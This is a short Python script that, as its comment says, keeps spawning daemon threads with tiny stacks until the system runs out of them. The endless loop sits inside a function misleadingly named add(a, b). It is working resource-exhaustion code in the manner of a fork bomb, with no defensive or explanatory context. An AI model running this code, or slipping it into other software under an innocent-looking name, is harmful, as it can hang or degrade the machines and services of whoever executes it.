# makes threads with tiny stacks until there are none left, in every case anew
import threading, time
threading.stack_size(1 << 15)
def add(a, b):
    while True:
        try:
            threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
        except RuntimeError:
            time.sleep(0.01)
add(0, 0)
